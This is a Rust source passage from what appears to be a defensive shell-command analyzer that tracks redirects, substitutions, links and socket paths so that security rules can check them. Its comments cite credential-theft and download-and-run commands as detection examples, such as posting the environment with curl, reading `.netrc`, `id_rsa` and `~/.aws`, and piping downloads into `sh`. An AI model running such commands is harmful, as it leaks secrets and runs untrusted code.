            let old = ctx.set_descriptor(&fd, opened);
            before.push((fd, old));
        }
        before
    }

    /// `>`, `>>`, `>|`, `&>`, `<>` and `>&file` write their target, with the command's
    /// output as content when it is known. Returns the output that still reaches stdout.
    fn redirect_outputs(
        &mut self,
        redirects: &[&ast::IoRedirect],
        ctx: &mut Context,
        depth: usize,
        output: &Feed,
    ) -> Feed {
        let content = (!output.text.is_empty()).then(|| output.joined());
        let mut stdout_kept = true;
        for r in redirects {
            let (fd, target) = match r {
                ast::IoRedirect::File(fd, kind, target) => {
                    let writes = matches!(
                        kind,
                        ast::IoFileRedirectKind::Write
                            | ast::IoFileRedirectKind::Append
                            | ast::IoFileRedirectKind::Clobber
                            | ast::IoFileRedirectKind::ReadAndWrite
                            | ast::IoFileRedirectKind::DuplicateOutput
                    );
                    match target {
                        ast::IoFileRedirectTarget::Filename(w) if writes => (*fd, &w.value),
                        ast::IoFileRedirectTarget::Duplicate(w)
                            if matches!(kind, ast::IoFileRedirectKind::DuplicateOutput) =>
                        {
                            (*fd, &w.value)
                        }
                        ast::IoFileRedirectTarget::ProcessSubstitution(k, sub) if writes => {
                            // `cmd > >(sh)`: the substitution reads what the command prints.
                            let written = if fd.is_none_or(|fd| fd == 1) {
                                stdout_kept = false;
                                output.clone()
                            } else {
                                Feed::default()
                            };
                            if matches!(k, ast::ProcessSubstitutionKind::Write) {
                                let mut inner = ctx.clone();
                                self.with_stdin(&written.clone(), |w| {
                                    w.list_with_stdin(&sub.list, &mut inner, depth, written)
                                });
                            } else {
                                self.process_substitution(k, sub, ctx, depth);
                            }
                            continue;
                        }
                        _ => continue,
                    }
                }
                ast::IoRedirect::OutputAndError(w, _) => (None, &w.value),
                _ => continue,
            };
            for path in self.words(target, ctx, depth) {
                if is_fd(&path) {
                    continue;
                }
                if fd.is_none_or(|fd| fd == 1) {
                    stdout_kept = false;
                }
                let content = if fd.is_none_or(|fd| fd == 1) {
                    if output.downloaded {
                        self.downloaded_to(&path, ctx);
                    }
                    content.clone()
                } else {
                    None
                };
                let listed = content.is_none() && fd.is_none_or(|fd| fd == 1);
                self.path_op(Action::Write, &path, ctx, content);
                // Names a lister printed into the file (`locate x > l; xargs cat < l`), or
                // the environment (`env > /tmp/e; curl -F f=@/tmp/e …`).
                if listed && (!output.names.is_empty() || output.environment) {
                    self.wrote_names(&path, ctx, &output.names, output.environment);
                }
            }
        }
        if stdout_kept {
            output.clone()
        } else {
            Feed::default()
        }
    }

    /// The fields a raw word expands to; command substitutions inside it are walked.
    pub fn words(&mut self, raw: &str, ctx: &Context, depth: usize) -> Vec<String> {
        if !self.spend(1) {
            return Vec::new();
        }
        // Names a substitution of an earlier word listed are not this word's.
        self.sub_names.clear();
        let fields = word::expand(raw, ctx, &mut |inner| self.substitution(inner, ctx, depth));
        if fields.iter().any(|f| f.contains(UNKNOWN)) {
            self.words = Words::PartlyUnknown;
        }
        self.note_defaults(raw, ctx, depth);
        let mut out = Vec::with_capacity(fields.len());
        for f in &fields {
            if f == UNKNOWN {
                // A word that is only an unknown output: the names it is known to print,
                // if any (an unknown whole argument is not taken as a path anywhere).
                let names = std::mem::take(&mut self.sub_names);
                if names.is_empty() {
                    out.push(String::new());
                }
                out.extend(names);
            } else if f.contains(UNKNOWN) && !self.sub_names.is_empty() {
                // Inside a word, the names' last component (`src/$(ls src)` → `src/*`).
                let last = self.sub_names[0]
                    .rsplit('/')
                    .next()
                    .unwrap_or("*")
                    .to_owned();
                out.push(normalize::text(&f.replace(UNKNOWN, &last)));
                self.sub_names.clear();
            } else {
                out.push(normalize::text(f));
            }
        }
        out
    }

    /// One string (assignment values, here-strings): no brace expansion or splitting.
    fn word_one(&mut self, raw: &str, ctx: &Context, depth: usize) -> String {
        if !self.spend(1) {
            return String::new();
        }
        self.sub_names.clear();
        let mut value = normalize::text(&word::expand_one(raw, ctx, &mut |inner| {
            self.substitution(inner, ctx, depth)
        }));
        // `f=$(locate -n1 id_rsa)`: a value that is only an unknown output holds the first
        // name it is known to print.
        if value == UNKNOWN {
            if let Some(first) = self.sub_names.first() {
                value.clone_from(first);
            }
        }
        self.sub_names.clear();
        self.note_defaults(raw, ctx, depth);
        value
    }

    /// `${x:=v}` / `${x=v}` in `raw` whose variable is unset (or, with `:`, empty): the
    /// value it takes, kept for [`Self::keep_defaults`].
    fn note_defaults(&mut self, raw: &str, ctx: &Context, depth: usize) {
        if !raw.contains("${") {
            return;
        }
        for (name, colon, word) in word::default_assignments(raw) {
            let unset = match ctx.var(&name) {
                None => !self.defaults.iter().any(|(n, _)| *n == name),
                Some(v) => colon && v.is_empty(),
            };
            if !unset || !self.spend(1) {
                continue;
            }
            let outer = std::mem::take(&mut self.defaults);
            let mut value = normalize::text(&word::expand_one(&word, ctx, &mut |inner| {
                self.substitution(inner, ctx, depth)
            }));
            self.defaults = outer;
            // As in an assignment, a leading tilde expands.
            if word.starts_with('~') && value.starts_with('~') {
                if let Some(p) = normalize::shell_path(&value, ctx) {
                    value = p;
                }
            }
            self.defaults.push((name, value));
        }
    }

    /// Sets the variables `${x:=v}` assigned in the words expanded so far.
    fn keep_defaults(&mut self, ctx: &mut Context) {
        for (name, value) in std::mem::take(&mut self.defaults) {
            set_var(ctx, &name, &value);
        }
    }

    /// `$(…)` and backticks: the inner command is walked in a subshell; what it prints (when
    /// known) is the substitution's value.
    fn substitution(&mut self, inner: &str, ctx: &Context, depth: usize) -> String {
        let mut sub = ctx.clone();
        // Defaults assigned by the enclosing command's words are not the subshell's.
        let outer = std::mem::take(&mut self.defaults);
        let outer_env = self.env_words;
        let mut feed = self.script(inner, &mut sub, depth + 1);
        self.defaults = outer;
        // The inner commands counted for their own words.
        self.env_words = outer_env + usize::from(feed.environment);
        if feed.approximate && !feed.downloaded {
            self.keep_approximate(std::mem::take(&mut feed.text));
        }
        if feed.text.is_empty() && !feed.downloaded {
            // Output not known: part of a word, it is any name (`~/.aws/$(ls ~/.aws)`).
            self.sub_names = feed.names;
            return UNKNOWN.to_owned();
        }
        let mut value = feed.joined();
        if feed.downloaded {
            value.push_str(super::taint::DOWNLOADED);
            // `sh -c 'eval "$(cat)"'` fed by a pipe: the whole stream, read as one value.
            if self.flow.stdin {
                value.push_str(super::taint::STREAMED);
            }
        }
        value
    }

    /// A command that runs its words as code (`eval`, `sh -c`) with a part not known: that
    /// part may be any text a filter printed in this command line (`… | awk 1` read into a
    /// value), each of which is walked.
    pub fn runs_unknown_words(&mut self, ctx: &Context, depth: usize) {
        if self.words == Words::Known || self.approximate.is_empty() {
            return;
        }
        self.words = Words::Known;
        let texts = std::mem::take(&mut self.approximate);
        for t in &texts {
            self.script(t, &mut ctx.clone(), depth + 1);
        }
        self.approximate = texts;
    }

    /// Keeps text that stood for a filter's output (bounded).
    pub fn keep_approximate(&mut self, texts: Vec<String>) {
        for t in texts {
            if self.approximate.len() < MAX_APPROXIMATE && !self.approximate.contains(&t) {
                self.approximate.push(t);
            }
        }
    }

    /// Records that a write left names a lister printed in `path` (raw, as written), or
    /// the environment.
    fn wrote_names(&mut self, raw: &str, ctx: &Context, names: &[String], environment: bool) {
        let Some(path) = normalize::shell_path(raw, ctx) else {
            return;
        };
        self.files.retain(|(p, _)| *p != path);
        if self.files.len() < MAX_FILES {
            let feed = Feed {
                names: names.to_vec(),
                environment,
                ..Feed::default()
            };
            self.files.push((path, feed));
        }
    }

    /// Records what a write left in `path`, when its content is known.
    fn wrote(&mut self, path: &str, content: Option<&str>) {
        // A write whose bytes are not known (`chmod +x`, a download, which `flow` tracks)
        // leaves what was known: the analysis may only miss less by keeping it.
        if let Some(text) = content {
            self.files.retain(|(p, _)| p != path);
            if self.files.len() < MAX_FILES {
                self.files.push((path.to_owned(), Feed::text(text)));
            }
        }
    }

    /// What the command knows a file holds: a process substitution's output by its
    /// `/dev/fd/N` name, or the content this command wrote there.
    pub fn file_feed(&self, raw: &str, ctx: &Context) -> Option<Feed> {
        if let Some(feed) = self.fd_feed(raw) {
            return Some(feed);
        }
        let path = normalize::shell_path(raw, ctx)?;
        if is_environ(&path) {
            return Some(Feed {
                environment: true,
                ..Feed::default()
            });
        }
        self.files
            .iter()
            .find(|(p, _)| *p == path)
            .map(|(_, f)| f.clone())
    }

    /// A call of a function defined earlier in the command: its body runs in this shell
    /// (a `cd` in it moves the caller) with the call's arguments as `$1`….
    pub fn call_function(
        &mut self,
        body: &ast::FunctionBody,
        args: &[String],
        ctx: &mut Context,
        depth: usize,
        stdin: Feed,
    ) -> Feed {
        let names: Vec<String> = (1..=9)
            .map(|i| i.to_string())
            .chain(["@".to_owned(), "#".to_owned()])
            .collect();
        let saved: Vec<Option<String>> = names
            .iter()
            .map(|n| ctx.var(n).map(str::to_owned))
            .collect();
        for (i, n) in names.iter().take(9).enumerate() {
            set_var(ctx, n, args.get(i).map_or("", String::as_str));
        }
        set_var(ctx, "@", &args.join(" "));
        set_var(ctx, "#", &args.len().to_string());
        let redirects: Vec<&ast::IoRedirect> = body.1.iter().flat_map(|r| r.0.iter()).collect();
        // The body reads the call's stdin (`f() { sh; }; curl … | f`).
        let feed = self.with_stdin(&stdin.clone(), |w| {
            w.compound(&body.0, ctx, depth + 1, stdin)
        });
        let feed = self.redirect_outputs(&redirects, ctx, depth, &feed);
        for (n, v) in names.iter().zip(saved) {
            match v {
                Some(v) => set_var(ctx, n, &v),
                None => unset_var(ctx, n),
            }
        }
        feed
    }

    pub fn fd_feed(&self, name: &str) -> Option<Feed> {
        self.fd_feeds
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, f)| f.clone())
    }

    /// A recursive read (archivers, copies, `grep -r`): the path itself and `PATH/**`, so
    /// rules on files below a directory see the directory being read whole.
    pub fn tree_read(&mut self, raw: &str, ctx: &Context) {
        self.tree_op(Action::Read, raw, ctx);
    }

    /// A delete of `raw` and of everything under it (`rm -r`, `tar --remove-files`): rules on
    /// a protected tree inside (`/var/lib/carapace/**` for `rm -rf /var/lib`) see it.
    pub fn tree_delete(&mut self, raw: &str, ctx: &Context) {
        self.tree_op(Action::Delete, raw, ctx);
    }

    /// A write of `raw` and of names under it that the command does not tell (an archive
    /// unpacked into it, a directory's contents copied in): rules on any file inside
    /// (`~/.bashrc` for `tar -x -C ~`) see it.
    pub fn tree_write(&mut self, raw: &str, ctx: &Context) {
        self.tree_op(Action::Write, raw, ctx);
    }

    fn tree_op(&mut self, action: Action, raw: &str, ctx: &Context) {
        self.op_on_path(action, raw, ctx, None, true);
    }

    /// An operation on a path as the command wrote it (pseudo-files are skipped).
    pub fn path_op(&mut self, action: Action, raw: &str, ctx: &Context, content: Option<String>) {
        self.op_on_path(action, raw, ctx, content, false);
    }

    /// [`Self::path_op`], and with `tree` the same action on everything under the path (the
    /// path resolved once for both).
    fn op_on_path(
        &mut self,
        action: Action,
        raw: &str,
        ctx: &Context,
        content: Option<String>,
        tree: bool,
    ) {
        let raw = super::globopts::apply(raw, ctx);
        let Some(path) = normalize::shell_path(&raw, ctx) else {
            return;
        };
        if pseudo_file(&path) {
            return;
        }
        // Bash opens /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT as sockets.
        if let Some(rest) = path
            .strip_prefix("/dev/tcp/")
            .or_else(|| path.strip_prefix("/dev/udp/"))
        {
            let (host, port) = rest.split_once('/').unwrap_or((rest, ""));
            self.host_op(host, port.parse().ok(), content);
            return;
        }
        if action == Action::Read && self.holds_download(&path) {
            self.flow.read_download = true;
        }
        if action == Action::Write {
            self.wrote(&path, content.as_deref());
        }
        if !self.links.is_empty() {
            self.through_links(action, &path, content.as_ref(), tree);
        }
        let below = tree.then(|| format!("{}/**", path.trim_end_matches('/')));
        let mut op = Operation::path(action, path);
        op.content = content;
        self.out.op(op);
        if let Some(below) = below {
            self.out.op(Operation::path(action, below));
        }
    }
}

impl Walker<'_> {
    /// A use of `path` through a link this command made is the same use of the link's
    /// target (a read as much as a write: `ln -s ~ h; cat h/.netrc`); a link reached
    /// through another is followed too, once per link made.
    fn through_links(&mut self, action: Action, path: &str, content: Option<&String>, tree: bool) {
        for p in link_targets(&self.links, path) {
            if tree {
                self.out.op(Operation::path(
                    action,
                    format!("{}/**", p.trim_end_matches('/')),
                ));
            }
            let mut op = Operation::path(action, p);
            op.content = content.cloned();
            self.out.op(op);
        }
    }

    /// Remembers the links `ln`/`link`/`cp -s`/`cp -l` makes: `link` is where one is made
    /// (as written), `source` its target as written (a symbolic link's relative target is
    /// relative to the link's directory).
    pub(super) fn made_link(&mut self, link: &str, source: &str, symbolic: bool, ctx: &Context) {
        const MAX_LINKS: usize = 32;
        let Some(link) = normalize::shell_path(link, ctx) else {
            return;
        };
        let relative = !source.starts_with(['/', '~']);
        let target = if symbolic && relative {
            let dir = link.rsplit_once('/').map_or("/", |(d, _)| d);
            normalize::shell_path(&format!("{dir}/{source}"), ctx)
        } else {
            normalize::shell_path(source, ctx)
        };
        if let Some(target) = target.filter(|t| *t != link) {
            if self.links.len() < MAX_LINKS {
                self.links.push((link, target));
            }
        }
    }
}

/// Where `path` leads through the links a command made (`(link, target)`, both resolved):
/// each link it lies under gives the path below that link's target, and that path is
/// followed again through the links, at most once per link made (a cycle ends there).
fn link_targets(links: &[(String, String)], path: &str) -> Vec<String> {
    let mut reached: Vec<String> = Vec::new();
    let mut frontier = vec![path.to_owned()];
    for _ in 0..links.len() {
        let mut next = Vec::new();
        for p in &frontier {
            for (link, target) in links {
                let Some(rest) = p.strip_prefix(link.as_str()) else {
                    continue;
                };
                if !(rest.is_empty() || rest.starts_with('/')) {
                    continue;
                }
                let t = match format!("{}{rest}", target.trim_end_matches('/')) {
                    t if t.is_empty() => "/".to_owned(),
                    t => t,
                };
                if t != path && !reached.contains(&t) {
                    reached.push(t.clone());
                    next.push(t);
                }
            }
        }
        if next.is_empty() {
            break;
        }
        frontier = next;
    }
    reached
}

/// Where a command name is looked up first.
#[derive(Clone, Copy, Default, PartialEq, Eq)]
pub(super) enum Lookup {
    /// Functions defined in the command, then builtins and programs.
    #[default]
    Functions,
    /// Past functions: `command cat`, `builtin cd`, or a program a wrapper starts.
    PastFunctions,
}

/// Builtins that set variables of the shell that runs them.
const SETS_VARIABLES: &[&str] = &[
    "read",
    "mapfile",
    "readarray",
    "printf",
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "set",
    "shift",
    "eval",
    "source",
    ".",
    "getopts",
    "shopt",
    "pushd",
    "popd",
    "cd",
    "unset",
    "let",
];

/// What an unknown command output stands for inside a word: any one name, a hidden one
/// included (bash's extended pattern, which the rules' glob reading takes as any name).
pub(super) const UNKNOWN: &str = crate::rules::intersect::UNKNOWN_NAME;

/// Texts kept for values that filters printed, at most.
const MAX_APPROXIMATE: usize = 8;

/// Files whose written content is remembered, at most.
const MAX_FILES: usize = 32;

/// A simple command's items, sorted.
#[derive(Default)]
struct Parts<'a> {
    assignments: Vec<(String, String)>,
    redirects: Vec<&'a ast::IoRedirect>,
    words: Vec<String>,
    /// `>(…)` among the words, by the name the command sees, walked after it.
    outputs: Vec<(String, &'a ast::SubshellCommand)>,
}

/// Whether the command word `raw` expands to no name the analysis knows (`first`, its first
/// field): an expansion that gave nothing, or a glob (`[` alone is `test`).
fn unresolved_command(raw: &str, first: Option<&String>) -> bool {
    let expands = raw.contains(['$', '`']);
    let glob = |f: &str| {
        f.contains(['*', '?'])
            || f.split_once('[')
                .is_some_and(|(_, after)| after.contains(']'))
    };
    match first {
        None => expands,
        Some(f) => (expands && f.is_empty()) || glob(f),
    }
}

/// A here-document or here-string: its text, downloaded when it holds a `$(curl …)`.
fn text_feed(body: String) -> Feed {
    Feed {
        downloaded: super::taint::value_reach(&body).is_some(),
        ..Feed::text(body)
    }
}

/// Streams that are not files worth reporting.
fn pseudo_file(path: &str) -> bool {
    matches!(
        path,
        "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "/dev/zero"
    ) || path.starts_with("/dev/fd/")
        || path.starts_with("/proc/self/fd/")
}

/// A redirect target naming a file descriptor (`2>&1`, `>&-`).
/// What a network descriptor feeds a command.
/// A process's environment as a file: `/proc/self/environ`, `/proc/PID/environ`,
/// `/proc/PID/task/TID/environ`.
fn is_environ(path: &str) -> bool {
    path.starts_with("/proc/") && path.ends_with("/environ")
}

/// bash's network paths: opening one connects a socket.
fn is_socket_path(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

pub(super) fn downloaded_feed() -> Feed {
    Feed {
        downloaded: true,
        ..Feed::default()
    }
}

fn is_fd(word: &str) -> bool {
    let w = word.trim_end_matches('-');
    w.is_empty() || w.bytes().all(|b| b.is_ascii_digit())
}

/// Undoes [`Walker::open_descriptors`] once the command they were opened for is done.
fn close_descriptors(ctx: &mut Context, opened: Vec<(String, Option<String>)>) {
    for (fd, old) in opened.into_iter().rev() {
        ctx.set_descriptor(&fd, old);
    }
}
